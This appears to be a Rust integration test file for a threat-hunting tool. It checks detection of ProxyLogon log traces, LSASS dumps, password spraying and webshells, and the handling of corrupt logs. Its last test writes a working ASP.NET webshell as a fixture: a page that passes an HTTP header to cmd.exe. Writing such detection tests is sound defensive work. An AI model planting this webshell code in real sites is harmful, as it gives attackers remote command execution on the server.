//! The hunt over the real evidence in shared/corpus/logs and over broken files.

use std::path::{Path, PathBuf};

use seawall_hunt::{HuntOptions, hunt, spray::SprayConfig};
use seawall_rules::RuleSet;

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/logs")
}

fn options(paths: Vec<PathBuf>, threads: usize) -> HuntOptions {
    HuntOptions {
        paths,
        from: None,
        to: None,
        threads: Some(threads),
        max_evtx_bytes: 1 << 28,
        spray: SprayConfig::embedded().expect("spray config"),
        stage_times: false,
    }
}

fn ids(result: &seawall_hunt::HuntResult) -> Vec<String> {
    result.findings.iter().map(|f| f.rule.id.clone()).collect()
}

#[test]
fn real_proxylogon_logs_give_the_chain_with_outcomes_and_exact_positions() {
    let rules = RuleSet::embedded().expect("rules");
    let result = hunt(&options(vec![corpus().join("exchange_real")], 2), &rules);
    let found = ids(&result);
    assert!(found.contains(&"SW-LOG-PROXYLOGON-26855".to_owned()));
    assert!(found.contains(&"SW-LOG-PROXYLOGON-27065-SET-VDIR".to_owned()));
    assert!(found.contains(&"SW-LOG-PROXYLOGON-27065-RESET-VDIR".to_owned()));
    let reset = result.findings.iter().find(|f| f.rule.id == "SW-LOG-PROXYLOGON-27065-RESET-VDIR").expect("found");
    assert_eq!(reset.outcome.as_deref(), Some("success"));
    assert_eq!(reset.time.as_deref(), Some("2021-03-03T06:59:20.359Z"));
    match &reset.location {
        seawall_model::Location::File { path, line, .. } => {
            assert!(path.ends_with("helsecert_httpproxy_ecp_cve-2021-26855_excerpt.csv"));
            assert_eq!(*line, Some(12));
        }
        other => panic!("{other:?}"),
    }
    assert!(result.errors.is_empty(), "{:?}", result.errors);
}

#[test]
fn evtx_samples_show_what_followed() {
    let rules = RuleSet::embedded().expect("rules");
    let result = hunt(&options(vec![corpus().join("evtx")], 2), &rules);
    let found = ids(&result);
    for expected in [
        "SW-LOG-WEBSERVER-SHELL",
        "SW-LOG-LSASS-DUMP-COMSVCS",
        "SW-LOG-LSASS-DUMP-TOOL",
        "SW-LOG-PASSWORD-SPRAY",
        "SW-LOG-EXCHANGE-ADMIN-GROUP",
    ] {
        assert!(found.contains(&expected.to_owned()), "{expected} in {found:?}");
    }
    assert_eq!(result.stats.files_by_kind.get("evtx"), Some(&11));
}

#[test]
fn output_is_the_same_with_one_thread_and_many() {
    let rules = RuleSet::embedded().expect("rules");
    let one = hunt(&options(vec![corpus()], 1), &rules);
    let many = hunt(&options(vec![corpus()], 4), &rules);
    let render = |r: &seawall_hunt::HuntResult| serde_json::to_string(&r.findings).expect("json");
    assert_eq!(render(&one), render(&many));
    assert!(!one.findings.is_empty());
}

#[test]
fn benign_logs_give_nothing_at_medium_or_above() {
    let rules = RuleSet::embedded().expect("rules");
    let benign: Vec<PathBuf> = [
        "elastic-beats_access-full.log",
        "elastic-beats_test-iis-7.5.log",
        "elastic-integrations_test-iis10-access.log",
    ]
    .iter()
    .map(|n| corpus().join("iis_w3c").join(n))
    .collect();
    let result = hunt(&options(benign, 2), &rules);
    let loud: Vec<_> = result.findings.iter().filter(|f| f.severity >= seawall_model::Severity::Medium).collect();
    assert!(loud.is_empty(), "{loud:?}");
}

#[test]
fn corrupt_and_truncated_files_give_errors_and_the_rest_completes() {
    let rules = RuleSet::embedded().expect("rules");
    let dir = tempfile::tempdir().expect("dir");
    // An EVTX file cut in the middle, a W3C log with a binary directive and a truncated last line.
    let evtx =
        std::fs::read(corpus().join("evtx/sbouss__Credential_Access__sysmon_10_1_memdump_comsvcs_minidump.evtx"))
            .expect("sample");
    std::fs::write(dir.path().join("cut.evtx"), &evtx[..evtx.len() / 2]).expect("write");
    std::fs::write(dir.path().join("garbage.evtx"), b"ElfFile\0 this is not an event log").expect("write");
    std::fs::write(
        dir.path().join("u_ex210303.log"),
        b"#Software: Microsoft Internet Information Services 10.0\n#\xff\xfe\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n\
2021-03-03 06:49:42 10.0.0.5 POST /ecp/y.js - 443 - 198.51.100.7 python-requests/2.25.1 - 200 0 0 12\n2021-03-03 06:49:43 10.0.0.5 POST /ecp/y.j",
    )
    .expect("write");
    let copy = dir.path().join("exchange");
    std::fs::create_dir(&copy).expect("dir");
    std::fs::copy(
        corpus().join("exchange_real/helsecert_httpproxy_ecp_cve-2021-26855_excerpt.csv"),
        copy.join("hits.csv"),
    )
    .expect("copy");
    let result = hunt(&options(vec![dir.path().to_owned()], 2), &rules);
    let sources: Vec<&str> = result.errors.iter().map(|e| e.source.as_str()).collect();
    assert!(sources.iter().any(|s| s.ends_with("garbage.evtx")), "{sources:?}");
    assert!(sources.iter().any(|s| s.ends_with("u_ex210303.log")), "{sources:?}");
    let found = ids(&result);
    assert!(found.contains(&"SW-LOG-PROXYLOGON-IIS-POST".to_owned()), "the good line before the damage is read");
    assert!(found.contains(&"SW-LOG-PROXYLOGON-26855".to_owned()), "other files are unaffected");
}

#[test]
fn entra_sign_in_exports_feed_the_spray_detector() {
    let rules = RuleSet::embedded().expect("rules");
    let dir = tempfile::tempdir().expect("dir");
    let mut csv = String::from("Date (UTC),Request ID,User agent,Username,IP address,Status,Sign-in error code\n");
    for i in 0..15 {
        csv.push_str(&format!(
            "2025-01-10T10:0{}:{:02}Z,r{i},fasthttp,user{i}@example.org,203.0.113.9,Failure,50126\n",
            i / 10,
            i
        ));
    }
    csv.push_str("2025-01-10T10:05:00Z,r99,fasthttp,user3@example.org,203.0.113.9,Success,0\n");
    std::fs::write(dir.path().join("InteractiveSignIns_2025-01-10.csv"), csv).expect("write");
    let result = hunt(&options(vec![dir.path().to_owned()], 1), &rules);
    let found = ids(&result);
    for expected in ["SW-LOG-PASSWORD-SPRAY", "SW-LOG-SUCCESS-AFTER-FAILURES", "SW-LOG-SPRAY-TOOL-AGENT"] {
        assert!(found.contains(&expected.to_owned()), "{expected} in {found:?}");
    }
    assert_eq!(result.stats.files_by_kind.get("entra-sign-ins"), Some(&1));
}

#[test]
fn a_large_log_read_in_pieces_gives_exactly_what_one_pass_gives() {
    let rules = RuleSet::embedded().expect("rules");
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("u_ex210303.log");
    let mut text = String::with_capacity(72 << 20);
    text.push_str("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n");
    let mut i = 0u64;
    while text.len() < 70 << 20 {
        i += 1;
        if i == 300_000 {
            // The schema changes mid-file: pieces after this must read the new column order.
            text.push_str("#Fields: date time s-ip cs-uri-stem cs-method cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n");
        }
        let (a, b) = if i >= 300_000 { ("/ecp/y.js", "POST") } else { ("POST", "/ecp/y.js") };
        if i.is_multiple_of(99_991) {
            text.push_str(&format!(
                "2021-03-03 06:{:02}:{:02} 10.0.0.5 {a} {b} - 443 - 198.51.100.7 python-requests/2.25.1 - 200 0 0 12\n",
                i / 60 % 60,
                i % 60
            ));
        } else {
            text.push_str(&format!("2021-03-03 06:{:02}:{:02} 10.0.0.5 GET /owa/service.svc action=GetFolder 443 user{} 10.1.2.3 Mozilla/5.0 - 200 0 0 12\n", i / 60 % 60, i % 60, i % 50));
        }
    }
    std::fs::write(&path, &text).expect("write");
    let one = hunt(&options(vec![path.clone()], 1), &rules);
    let many = hunt(&options(vec![path], 2), &rules);
    // The hits fold (one source, one window), and every one is counted.
    assert!(one.stats.finding_hits >= 6, "{} hits", one.stats.finding_hits);
    assert_eq!(one.stats.finding_hits, many.stats.finding_hits);
    assert!(!one.findings.is_empty());
    let render = |r: &seawall_hunt::HuntResult| serde_json::to_string(&r.findings).expect("json");
    assert_eq!(render(&one), render(&many));
    assert_eq!(one.stats.events, many.stats.events);
    let lines: Vec<u64> = one
        .findings
        .iter()
        .filter_map(|f| match f.location {
            seawall_model::Location::File { line, .. } => line,
            _ => None,
        })
        .collect();
    for line in lines {
        let text_line = text.lines().nth(line as usize - 1).unwrap_or_default();
        assert!(text_line.contains("/ecp/y.js"), "line {line} is {text_line:?}");
    }
}

#[test]
fn a_web_root_with_a_page_and_the_app_code_helper_it_runs_gives_both_files() {
    let rules = RuleSet::embedded().expect("rules");
    let dir = tempfile::tempdir().expect("dir");
    let app_code = dir.path().join("site/App_Code");
    std::fs::create_dir_all(&app_code).expect("dir");
    std::fs::create_dir_all(dir.path().join("site/admin")).expect("dir");
    std::fs::write(
        app_code.join("Jobs.cs"),
        "using System;\nusing System.Diagnostics;\npublic static class Jobs\n{\n    public static string Run(string job)\n    {\n        \
         var p = Process.Start(new ProcessStartInfo(\"cmd.exe\", \"/c \" + job) { RedirectStandardOutput = true, UseShellExecute = false });\n        \
         return p.StandardOutput.ReadToEnd();\n    }\n}\n",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("site/admin/Jobs.aspx"),
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e)\n{\n    \
         Response.Write(Jobs.Run(Request.Headers[\"X-Job\"]));\n}\n</script>\n",
    )
    .expect("write");
    let kb = seawall_kb::KnowledgeBase::embedded().expect("kb");
    let (files, _) =
        seawall_webshell::WebshellScanner::new(&seawall_webshell::ScannerConfig::default(), &kb).expect("scanner");
    let extras = seawall_hunt::Extras { files: Some(&files), ..seawall_hunt::Extras::default() };
    let result = seawall_hunt::hunt_with(&options(vec![dir.path().to_owned()], 2), &rules, &extras);
    let located = |id: &str, file: &str| {
        result.findings.iter().any(|f| {
            f.rule.id == id
                && matches!(&f.location, seawall_model::Location::File { path, .. } if path.ends_with(file))
                && f.severity >= seawall_model::Severity::High
        })
    };
    assert!(located("SW-WEBSHELL-CAPABILITIES", "Jobs.aspx"), "{:?}", ids(&result));
    assert!(located("SW-WEBSHELL-HELPER", "Jobs.cs"), "{:?}", ids(&result));
}
